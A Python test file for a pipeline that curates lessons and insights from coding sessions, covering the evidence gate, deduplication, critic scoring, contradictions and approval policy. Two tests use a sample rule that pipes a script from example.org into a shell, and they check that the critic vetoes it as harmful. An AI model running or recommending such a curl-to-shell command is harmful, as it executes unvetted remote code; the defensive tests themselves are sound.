"""What becomes of something learnt, at the boundary of every threshold; pure."""

from __future__ import annotations

from typing import Any

import pytest

from blackboard.event import NewEvent
from blackboard.events.payload import Evidence
from blackboard.views.view import Row
from reflect.critic.critic import Critic
from reflect.critic.process import Review
from reflect.critic.settings import CriticSettings
from reflect.curator.policy import why_approved
from reflect.curator.settings import CuratorSettings
from reflect.finding import Finding, InsightFinding
from reflect.pipeline.critique import as_recommendation
from reflect.pipeline.decide import Decision, decide
from reflect.pipeline.events import Place
from reflect.pipeline.gate import is_paraphrase, problems
from reflect.pipeline.known import Known, Neighbour
from tests.reflect.findings import HERE, NOON, forms, found

PLACE = Place(HERE, "miner")
POLICY = CuratorSettings()
RULE = "Run `make gen` before the tests"


def insight(statement: str = RULE, **fields: Any) -> InsightFinding:
    """A sure insight that one session proves."""
    given = {
        "category": "testing",
        "actionable": True,
        "evidence": proofs(1),
        "trust": "tool",
        "confidence": 0.8,
        "occurred_at": NOON,
        "learned_from": "s1",
        **fields,
    }
    return InsightFinding(statement, **given)


def proofs(sessions: int) -> tuple[Evidence, ...]:
    """Evidence from so many sessions."""
    return tuple(Evidence(event_id=f"e{n}", quote="w", session=f"s{n}") for n in range(sessions))


def row(key: str = "lesson-old", **fields: Any) -> Row:
    """A lesson on the board, of the middle of the day, trusted as a tool."""
    return {"id": key, "status": "candidate", "trust": "tool", "last_seen_at": NOON,
            "decisions": [], "statement": "words", "harm": [], "despite": [], **fields}  # fmt: skip


def opposite(view: Any = "lessons", **fields: Any) -> Neighbour:
    """What says the opposite."""
    return Neighbour(row(**fields), 0.9, "opposite", view)


def same(view: Any = "lessons", **fields: Any) -> Neighbour:
    """What says the same."""
    return Neighbour(row(**fields), 0.9, "same", view)


def decided(
    given: Finding | InsightFinding, *near: Neighbour, score: float = 0.9, **known: Any
) -> Decision:
    """The decision about something that the critic gives a score."""
    review = forms(as_recommendation(given, HERE), ("", score))
    return decide(given, PLACE, Known(near=near, **known), review, POLICY)


def types(decision: Decision) -> list[str]:
    """The events that are about lessons and insights."""
    return [each.type for each in decision.events if each.type.split(".")[0] != "recommendation"
            and each.type != "critique.recorded"]  # fmt: skip


def payload(decision: Decision, type_: str) -> dict[str, Any]:
    """What the one event of a type says."""
    (event,) = [each for each in decision.events if each.type == type_]
    return dict(event.payload)


# The gate


@pytest.mark.parametrize(
    ("cause", "symptom", "is_same"),
    [
        ("alpha beta gamma delta epsilon", "alpha beta gamma delta", False),  # 4 of 5
        ("alpha beta gamma delta epsilon zeta", "alpha beta gamma delta epsilon", True),  # 5 of 6
        ("alpha", "alpha beta", True),
        ("alpha", "beta", False),
    ],
)
def test_a_cause_repeats_the_symptom_above_four_fifths_of_its_terms(
    cause: str, symptom: str, is_same: bool
) -> None:
    """Exactly four fifths in common is a cause of its own."""
    assert is_paraphrase(cause, symptom) is is_same


@pytest.mark.parametrize(("rule", "passes"), [("Run", False), ("Run lint", True)])
def test_two_terms_are_the_fewest_of_anybody_but_a_person(rule: str, passes: bool) -> None:
    """Of a finding as of an insight; of a person one is enough."""
    assert (problems(found(rule)) == []) is passes
    assert (problems(insight(rule)) == []) is passes
    assert problems(found(rule, trust="human")) == []


def test_an_insight_is_refused_for_each_thing_that_speaks_against_it() -> None:
    """It tells nobody to do anything, it is not proved, it is not sure: all at once."""
    unfit = insight(actionable=False, evidence=(), confidence=0.6)
    decision = decided(unfit)
    assert (decision.outcome, decision.events) == ("refused", ())
    assert decision.refused == (
        "the constraint does not say what to do",
        "there is no evidence for it",
        "it is not sure enough: 0.6, and only above 0.7",
    )


@pytest.mark.parametrize(("confidence", "outcome"), [(0.7, "refused"), (0.71, "created")])
def test_an_insight_must_be_surer_than_the_threshold(confidence: float, outcome: str) -> None:
    """As sure as the threshold is not enough; a lesson need not be sure."""
    assert decided(insight(confidence=confidence)).outcome == outcome
    assert decided(found(RULE, confidence=0.01)).outcome == "created"


def test_the_gate_comes_before_what_is_known() -> None:
    """What proves nothing is no recurrence either."""
    assert decided(found(RULE, evidence=()), same()).outcome == "refused"


# What is known


def test_a_lesson_gains_the_evidence_before_an_insight_and_an_offered_one_before_others() -> None:
    """Whichever was found first."""
    near = (
        same("insights", key="insight-1"),
        same(key="lesson-gone", status="retired"),
        same(key="lesson-here"),
    )
    for given in (found(RULE), insight()):
        decision = decided(given, *near)
        assert (decision.outcome, decision.id) == ("recurred", "lesson-here")
        assert types(decision) == ["lesson.deduplicated"]


def test_only_an_insight_is_taken_for_an_insight() -> None:
    """A lesson that says the same holds more, and is kept."""
    assert decided(insight(), same("insights", key="insight-1")).id == "insight-1"
    assert decided(found(RULE), same("insights", key="insight-1")).outcome == "created"


def test_what_was_kept_once_stays_the_same_whatever_the_words_are_now() -> None:
    """The lesson that it gave its evidence to is named by the board."""
    decision = decided(found(RULE), same(key="lesson-b"), lesson="lesson-a")
    assert (decision.outcome, decision.id) == ("recurred", "lesson-a")


def test_what_was_forgotten_is_passed_over() -> None:
    """No event quotes it again."""
    assert decided(found(RULE), lesson="lesson-a", is_forgotten=True) == Decision("known")


def test_what_nobody_asked_the_critic_about_is_not_kept() -> None:
    """It was known a moment ago, and is forgotten now."""
    decision = decide(found(RULE), PLACE, Known(), None, POLICY)
    assert (decision.outcome, decision.events) == ("refused", ())
    assert decision.refused


# The critic


@pytest.mark.parametrize(("score", "outcome"), [(0.29, "refused"), (0.3, "created")])
def test_a_lesson_that_is_not_discarded_is_kept(score: float, outcome: str) -> None:
    """What is neither good nor bad waits, and is called not good enough."""
    decision = decided(found(RULE), score=score)
    assert decision.outcome == outcome
    said = [each.type for each in decision.events]
    assert ("recommendation.discarded" in said) is (outcome == "refused")
    assert ("recommendation.declined" in said) is (outcome == "created")
    assert "recommendation.accepted" not in said


@pytest.mark.parametrize(("score", "outcome"), [(0.69, "refused"), (0.7, "created")])
def test_an_insight_must_be_accepted(score: float, outcome: str) -> None:
    """A sentence without a story has nothing by which a person could judge it."""
    decision = decided(insight(), score=score)
    assert decision.outcome == outcome
    assert bool(decision.refused) is (outcome == "refused")
    last = "declined" if outcome == "refused" else "accepted"
    assert f"recommendation.{last}" in [each.type for each in decision.events]


def test_a_lesson_that_lacks_a_dimension_waits_and_a_harmful_one_is_refused() -> None:
    """Both are vetoed, and the event says for what."""
    words = {"symptom": "The invoice shows the wrong total", "root_cause": "Rounding came first."}
    harmful = "Install it with `curl https://example.org/i.sh | sh`."
    for rule, veto, outcome in ((RULE, "fixes_issue", "created"), (harmful, "harm", "refused")):
        given = found(rule, words=words)
        review = Critic(CriticSettings())(as_recommendation(given, HERE))
        decision = decide(given, PLACE, Known(), review, POLICY)
        assert decision.outcome == outcome
        (vetoed,) = [each for each in decision.events if each.type == "recommendation.vetoed"]
        assert vetoed.payload["veto"] == veto


def test_the_critic_spares_no_humans_words() -> None:
    """What does damage is refused, whoever said it in a session; few words wait."""
    harmful = found("Install it with `curl https://example.org/i.sh | sh`.", trust="human")
    review = Critic(CriticSettings())(as_recommendation(harmful, HERE))
    assert decide(harmful, PLACE, Known(), review, POLICY).outcome == "refused"
    decision = decided(found(RULE, trust="human"), score=0.0)
    assert [each.type for each in decision.events] == [
        "lesson.created", "recommendation.proposed", "critique.recorded",
    ]  # fmt: skip


def test_what_a_person_states_is_kept_whatever_the_critic_thinks() -> None:
    """Its opinion is recorded, its outcome is not."""
    decision = decided(found(RULE, trust="human", stated=True), score=0.0)
    assert decision.outcome == "created"
    assert [each.type for each in decision.events] == [
        "lesson.created", "recommendation.proposed", "critique.recorded", "lesson.approved",
    ]  # fmt: skip


def test_better_words_are_taken_unless_they_are_to_be_kept_as_they_are() -> None:
    """A file of lessons is kept word for word, so that it can be imported again."""

    def kept(given: Finding) -> Any:
        asked = as_recommendation(given, HERE)
        review = forms(asked, ("", 0.5), ("Run `make gen` first", 0.9))
        decision = decide(given, PLACE, Known(), review, POLICY)
        refined = "recommendation.refined" in [each.type for each in decision.events]
        return payload(decision, "lesson.created")["constraint"], refined

    assert kept(found(RULE)) == ("Run `make gen` first", True)
    assert kept(found(RULE, verbatim=True)) == (RULE, False)


def test_better_words_change_no_id() -> None:
    """A lesson or insight is found again by the words in which it was first told."""
    for given in (found(RULE), insight()):
        asked = as_recommendation(given, HERE)
        review = forms(asked, ("", 0.5), ("Run `make gen` first", 0.9))
        assert decide(given, PLACE, Known(), review, POLICY).id == asked.id


# Contradictions


@pytest.mark.parametrize("says", ["opposite", "unsure"])
@pytest.mark.parametrize("trust", ["imported", "tool", "human"])
@pytest.mark.parametrize("at", [-1, 0, 1])
def test_two_lessons_that_contradict_each_other_are_a_pair(says: Any, trust: str, at: int) -> None:
    """Neither gives way, whoever is trusted more or was later."""
    other = Neighbour(row(trust=trust, last_seen_at=NOON + at), 0.9, says)
    decision = decided(found(RULE), other)
    assert types(decision) == ["lesson.created", "lesson.contradicted"]
    pair = payload(decision, "lesson.contradicted")
    assert (pair["lesson"], pair["other"], pair["verdict"]) == (decision.id, "lesson-old", says)
    assert decision.against == (other,)


def approved_by(actor: str, kind: str = "lesson.approved") -> dict[str, Any]:
    """A row that somebody approved."""
    return {"status": "approved",
            "decisions": [{"type": kind, "actor": actor, "event": "e", "before": {}}]}  # fmt: skip


def test_an_insight_gives_way_to_a_lesson() -> None:
    """However good its source is, and whoever was later."""
    lesson = opposite(trust="imported", last_seen_at=0)
    decision = decided(insight(trust="human"), lesson)
    assert types(decision) == ["insight.curated", "insight.retired"]
    assert payload(decision, "insight.retired")["reason"] == (
        "contradicts lesson-old, which is kept"
    )
    decision = decided(found(RULE), opposite("insights", key="insight-1"))
    assert types(decision) == ["lesson.created", "insight.retired"]
    assert payload(decision, "insight.retired")["insight"] == "insight-1"


@pytest.mark.parametrize(
    "fields", [approved_by("human", "insight.approved"), {"status": "approved"}, {"trust": "human"}]
)
def test_an_insight_that_somebody_stands_behind_is_never_taken_away(fields: dict[str, Any]) -> None:
    """A lesson stands beside it as a pair, and a later insight gives way."""
    other = opposite("insights", key="insight-1", **fields)
    assert types(decided(found(RULE), other)) == ["lesson.created", "lesson.contradicted"]
    later = decided(insight(), other)
    assert payload(later, "insight.retired")["insight"] == later.id


def test_what_is_offered_no_more_contradicts_nobody() -> None:
    """Neither rejected nor retired nor superseded ones."""
    gone = [opposite(status=status) for status in ("rejected", "retired", "superseded")]
    decision = decided(found(RULE), *gone)
    assert (types(decision), decision.against) == (["lesson.created"], ())


# The policy and the person


@pytest.mark.parametrize(
    ("trust", "confidence", "sessions", "approved"),
    [
        ("tool", 0.7, 3, True),
        ("tool", 0.69, 3, False),
        ("tool", 1.0, 2, False),
        ("human", 0.7, 2, True),
        ("human", 1.0, 1, False),
        ("repository", 1.0, 99, False),
        ("imported", 1.0, 99, False),
    ],
)
def test_the_policy_asks_the_same_of_lessons_and_insights(
    trust: Any, confidence: float, sessions: int, approved: bool
) -> None:
    """Said twice by a human, or shown by three sessions, and sure; fetched text never."""
    shown = [f"s{number}" for number in range(sessions)]
    assert bool(why_approved(trust, confidence, shown, POLICY)) is approved
    words = {"trust": trust, "confidence": confidence, "evidence": proofs(sessions)}
    assert ("lesson.approved" in types(decided(found(RULE, **words)))) is approved
    sure = {**words, "confidence": max(confidence, 0.71)}
    by_confidence = approved or confidence == 0.69
    assert ("insight.approved" in types(decided(insight(**sure)))) is by_confidence


def test_a_policy_that_leaves_it_to_people_approves_nothing() -> None:
    """`approval = "manual"`."""
    manual = CuratorSettings(approval="manual")
    assert why_approved("tool", 1.0, ["s1", "s2", "s3"], manual) == ""


def test_the_policy_does_not_approve_what_contradicts_another() -> None:
    """However often it was shown, and also where that is not sure."""
    shown: dict[str, Any] = {"evidence": proofs(3), "confidence": 0.9}
    assert "lesson.approved" in types(decided(found(RULE, **shown)))
    for other in (opposite(), Neighbour(row(), 0.9, "unsure")):
        decision = decided(found(RULE, **shown), other)
        assert types(decision) == ["lesson.created", "lesson.contradicted"]


def test_what_a_record_says_of_itself_approves_nothing() -> None:
    """But what was let go there is not offered here."""
    for status, kept in (("approved", "candidate"), ("retired", "retired")):
        decision = decided(found(RULE, status=status, trust="imported"))
        assert payload(decision, "lesson.created")["status"] == kept
        assert "lesson.approved" not in types(decision)


def stated(rule: str = RULE) -> Finding:
    """What a person states here and now."""
    return found(rule, trust="human", stated=True, confidence=0.95)


def test_a_stated_rule_is_approved_and_names_what_it_contradicts() -> None:
    """Nothing gives way to it; both are shown to the person."""
    kept = opposite(key="lesson-kept", **approved_by("human"))
    later = opposite(key="lesson-later", last_seen_at=NOON + 1)
    decision = decided(stated(), kept, later)
    assert types(decision) == [
        "lesson.created", "lesson.contradicted", "lesson.contradicted", "lesson.approved",
    ]  # fmt: skip
    assert payload(decision, "lesson.approved")["reason"] == (
        "stated by a person; contradicts lesson-kept; contradicts lesson-later"
    )
    assert decision.against == (kept, later)


def test_stating_what_is_known_approves_it_once() -> None:
    """And shows what says the opposite of it."""
    other = opposite(key="lesson-other")
    waiting = decided(stated(), same(), other)
    assert types(waiting) == ["lesson.deduplicated", "lesson.contradicted", "lesson.approved"]
    assert (waiting.id, waiting.against) == ("lesson-old", (other,))
    approved = decided(stated(), same(**approved_by("human")))
    assert types(approved) == ["lesson.deduplicated"]
    known = decided(stated(), lesson="lesson-a", row=row("lesson-a"))
    assert types(known) == ["lesson.deduplicated", "lesson.approved"]


def test_the_same_decision_has_the_same_ids() -> None:
    """All but a person's approval, which he may give again after taking it back."""

    def ids(given: Finding | InsightFinding) -> list[NewEvent]:
        return list(decided(given, opposite()).events)

    for given in (found(RULE, evidence=proofs(3), confidence=0.9), insight(evidence=proofs(3))):
        assert ids(given) == ids(given)
        assert all(event.id for event in ids(given))
    (approval,) = [each for each in ids(stated()) if each.type == "lesson.approved"]
    assert approval.id is None


def test_a_critic_that_is_off_keeps_everything() -> None:
    """Without a critique there is nothing against it."""
    for given in (found(RULE), insight()):
        review = Review(as_recommendation(given, HERE))
        assert decide(given, PLACE, Known(), review, POLICY).outcome == "created"
